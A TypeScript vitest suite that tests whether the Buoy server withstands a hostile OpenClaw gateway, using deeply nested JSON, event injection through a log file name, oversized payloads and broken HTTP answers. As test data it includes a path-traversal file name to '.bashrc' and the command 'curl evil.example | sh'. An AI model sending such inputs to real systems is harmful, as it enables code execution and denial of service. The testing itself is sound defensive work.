// A hostile gateway, or an admin of one server, tries to crash Buoy for everyone or to cut the live streams of others.
import { createServer, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { WebSocket } from 'ws';
import { isLongRun } from '../../../testbed/long-run.ts';
import { until } from '../../../testbed/until.ts';
import { noSshd } from '../../src/ssh/testing/loopback-sshd.ts';
import {
  createBrowser,
  entryFor,
  type HostileGateway,
  startHostileGateway,
} from '../support/hostile-gateway.ts';

const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;

describe.skipIf(noSshd !== null)('events and frames of a hostile gateway', () => {
  let fixture: HostileGateway;
  let token: string;
  let serverId: string;
  beforeAll(async () => {
    fixture = await startHostileGateway();
    token = await fixture.signIn(7);
    serverId = await fixture.addServer(token);
  });
  afterAll(() => fixture.close());

  const health = async (): Promise<number | string> =>
    fetch(`${fixture.url}/api/health`).then(
      ({ status }) => status,
      (error: Error) => `no answer: ${error.message}`,
    );

  /** Reads the event stream of a server until `is` holds for its text or the stream ends. */
  async function readEvents(below: string, is: (text: string) => boolean, onOpen: () => void = () => {}) {
    const leaving = new AbortController();
    const timer = setTimeout(() => leaving.abort(), 20_000);
    const answer = await fetch(`${fixture.url}/api/servers/${serverId}/openclaw/${below}`, {
      headers: { authorization: `Bearer ${token}` },
      signal: leaving.signal,
    });
    let text = '';
    let isOpen = false;
    try {
      for await (const chunk of answer.body ?? expect.unreachable()) {
        text += Buffer.from(chunk).toString();
        if (!isOpen && text.includes('"state":"connected"')) {
          isOpen = true;
          onOpen();
        }
        if (is(text)) break;
      }
    } catch {
      // The stream was cut: the test checks the text that arrived.
    } finally {
      clearTimeout(timer);
      leaving.abort();
    }
    return text;
  }

  test('a first Control UI frame nested 50,000 levels deep does not crash Buoy', async () => {
    const browser = createBrowser();
    const entry = await entryFor(fixture, token, serverId);
    expect((await browser.enter(entry, fixture.url)).status).toBe(200);
    const base = `/s/${serverId}/`;
    const socket = new WebSocket(`${entry.origin.replace('http', 'ws')}${base}`, {
      headers: { cookie: browser.cookiesFor(base), origin: entry.origin },
    });
    const closed = new Promise<number>((resolve) => socket.on('close', resolve));
    socket.on('error', () => undefined);
    socket.on('open', () =>
      socket.send(`{"type":"req","id":"1","method":"connect","params":{"client":{},"x":${nested(50_000)}}}`),
    );
    expect(await closed).toBe(1008);
    expect(await health()).toBe(200);
  });

  test('an event nested 20,000 levels deep does not crash Buoy, and others receive the next event', async () => {
    const argument = nested(20_000);
    const text = await readEvents(
      'events',
      (seen) => seen.includes('still there'),
      () => {
        for (let count = 0; count < 5; count += 1)
          fixture.gateway.sendRaw(
            `{"type":"event","event":"session.message","payload":{"sessionKey":"agent:main:main","message":{"role":"assistant","content":[{"type":"toolCall","id":"1","name":"n","arguments":${argument}}]}}}`,
          );
        void until(15_000, async () => (fixture.gateway.open() > 0 ? true : null)).then(() =>
          fixture.gateway.emit('skills.changed', { reason: 'still there' }),
        );
      },
    );
    expect(text).toContain('still there');
    expect(await health()).toBe(200);
    expect(fixture.buoy.output()).not.toContain('the SSH connection was lost');
  });

  test('a number that no answer can hold does not end the streams of others', async () => {
    const text = await readEvents(
      'events',
      (seen) => seen.includes('still there'),
      () => {
        fixture.gateway.emit('sessions.changed', {
          sessionKey: 'agent:main:main',
          session: { key: 'agent:main:main', inputTokens: 1e308, createdAt: 1e300 },
        });
        fixture.gateway.emit('skills.changed', { reason: 'still there' });
      },
    );
    expect(text).toContain('still there');
  });

  test('the name of a log file forges no event in the log stream of others', async () => {
    fixture.gateway.methods['logs.tail'] = () => ({
      payload: {
        file: 'x\n\nevent: line\ndata: {"forged":true}\n\n',
        cursor: 5,
        lines: ['a line'],
      },
    });
    const text = await readEvents('logs/stream?lines=5', (seen) => seen.includes('a line'));
    expect(text).toContain('a line');
    expect(text).not.toMatch(/^data: \{"forged"/m);
  });

  test('an agent file keeps the name it was asked for, whatever the gateway calls it', async () => {
    fixture.gateway.methods['agents.files.get'] = () => ({
      payload: { file: { name: '../../home/ada/.bashrc', content: 'curl evil.example | sh', size: 22 } },
    });
    const { status, json } = await fixture.call(
      token,
      'GET',
      `/servers/${serverId}/openclaw/agents/main/files/SOUL.md`,
    );
    expect([status, json]).toEqual([200, expect.objectContaining({ source: 'gateway' })]);
    expect(json.file).toMatchObject({ name: 'SOUL.md', content: 'curl evil.example | sh' });
  });

  test('naming another log file each time does not keep Buoy busy', async () => {
    let asked = 0;
    fixture.gateway.methods['logs.tail'] = () => {
      asked += 1;
      return { payload: { file: `log-${asked}`, cursor: 5, lines: [] } };
    };
    const reading = readEvents('logs/stream?lines=5', () => asked > 50);
    await until(10_000, async () => (asked >= 1 ? true : null));
    const [before, since] = [asked, performance.now()];
    await until(10_000, async () => (asked >= before + 3 ? true : null));
    expect((asked - before) / ((performance.now() - since) / 1_000)).toBeLessThanOrEqual(2);
    fixture.gateway.methods['logs.tail'] = () => ({ payload: { file: 'last', cursor: 5, lines: [] } });
    asked = 51;
    void reading.catch(() => undefined);
  });
});

describe.skipIf(noSshd !== null)(
  'Buoy keeps running while a person uses the Control UI of a hostile gateway',
  () => {
    let fixture: HostileGateway;
    let web: Server;
    beforeAll(async () => {
      fixture = await startHostileGateway();
    });
    afterAll(async () => {
      web?.close();
      await fixture.close();
    });

    test('that answers with an invalid status and breaks off', async () => {
      const token = await fixture.signIn(7);
      const serverId = await fixture.addServer(token);
      const browser = createBrowser();
      const entry = await entryFor(fixture, token, serverId);
      await browser.enter(entry, fixture.url);
      const { port } = fixture.gateway;
      await fixture.gateway.stop();
      web = createServer((socket) => {
        socket.on('error', () => undefined);
        socket.once('data', () => {
          socket.write('HTTP/1.1 099 None\r\ncontent-type: text/plain\r\ncontent-length: 100\r\n\r\nhalf');
          setTimeout(() => socket.destroy(), 200);
        });
      });
      await new Promise<void>((resolve) => web.listen(port, '127.0.0.1', resolve));
      const base = `/s/${serverId}/`;
      const answer = await fetch(`${entry.origin}${base}file`, {
        headers: { cookie: browser.cookiesFor(base) },
      }).catch((error: Error) => error);
      // The error comes after the answer, when Buoy notices the broken stream.
      for (let count = 0; count < 20; count += 1)
        expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
      expect(answer).toMatchObject({ status: 502 });
    });
  },
);

// A kept value shows only after hundreds of megabytes, which take half a minute: only in the long run.
describe.skipIf(noSshd !== null || !isLongRun)(
  'events of a hostile gateway do not fill the memory of Buoy',
  () => {
    let fixture: HostileGateway;
    beforeAll(async () => {
      // If Buoy kept what the rounds of one test send, it would exceed this heap.
      fixture = await startHostileGateway({ NODE_OPTIONS: '--max-old-space-size=256' });
    });
    afterAll(() => fixture.close());

    /** The number of rounds whose end a live stream received. */
    async function roundsSeen(rounds: number, sendRound: (round: number) => void): Promise<number> {
      const token = await fixture.signIn(7);
      const serverId = await fixture.addServer(token);
      const leaving = new AbortController();
      let tail = '';
      let round = -1;
      try {
        const stream = await fetch(`${fixture.url}/api/servers/${serverId}/openclaw/events`, {
          headers: { authorization: `Bearer ${token}` },
          signal: leaving.signal,
        });
        for await (const chunk of stream.body ?? expect.unreachable()) {
          tail = (tail + Buffer.from(chunk).toString()).slice(-100_000);
          const isOver =
            round < 0 ? tail.includes('"state":"connected"') : tail.includes(`round ${round} is over`);
          if (!isOver) continue;
          round += 1;
          if (round === rounds) break;
          sendRound(round);
          fixture.gateway.emit('skills.changed', { reason: `round ${round} is over` });
        }
      } catch {
        // Buoy has crashed: the test checks how far it came.
      } finally {
        leaving.abort();
      }
      return round;
    }

    test('with channels whose names change each time', async () => {
      const seen = await roundsSeen(200, (round) => {
        const names = Array.from({ length: 450 }, (_, index) => `${round}-${index}-${'x'.repeat(2_000)}`);
        const channels = Object.fromEntries(
          names.map((name) => [name, { accounts: { default: { running: false } } }]),
        );
        fixture.gateway.emit('health', { ok: true, channels });
      });
      expect(seen).toBe(200);
      expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
    }, 60_000);

    test('with titles of a megabyte, of which the first thousand characters are read', async () => {
      const seen = await roundsSeen(250, (round) =>
        fixture.gateway.emit('sessions.changed', {
          sessionKey: 'agent:main:main',
          session: { key: 'agent:main:main', displayName: `${round} ${'x'.repeat(1_000_000)}` },
        }),
      );
      expect(seen).toBe(250);
      expect((await fetch(`${fixture.url}/api/health`)).status).toBe(200);
    }, 60_000);
  },
);
